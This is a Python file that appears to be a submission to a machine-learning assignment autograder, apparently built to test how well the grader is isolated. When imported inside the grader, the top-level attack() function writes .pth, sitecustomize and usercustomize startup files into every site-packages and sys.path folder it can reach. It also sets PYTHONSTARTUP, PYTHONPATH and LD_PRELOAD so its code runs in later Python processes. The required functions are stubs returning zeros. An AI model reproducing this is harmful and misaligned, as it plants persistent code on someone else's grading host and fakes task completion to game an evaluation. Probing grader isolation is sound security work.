"""Plants .pth files, sitecustomize and usercustomize where the next Python would run them.

aims: change
"""

import os
import site
import sys
import sysconfig

import numpy as np

CODE = "import sys; PLANTED = 'PLANTED-by-site_packages_plant'\n"


def attack():
    home = os.environ.get("HOME", "")
    if not os.path.basename(home).startswith("autograder-"):
        return
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    folders = [*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("purelib"), *sys.path]
    folders += [
        f"{home}/.local/lib/{version}/site-packages",
        f"{home}/.config/{version}",
        f"/root/.local/lib/{version}",
    ]
    for folder in filter(None, folders):
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            continue
        for name in ("planted-site_packages_plant.pth", "sitecustomize.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write(CODE)
            except OSError:
                continue
    start = os.path.join(home, "planted-site_packages_plant-startup.py")
    with open(start, "w") as file:
        file.write(CODE)
    os.environ.update(PYTHONSTARTUP=start, PYTHONPATH=home, PYTHONINSPECT="1", LD_PRELOAD=start)


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
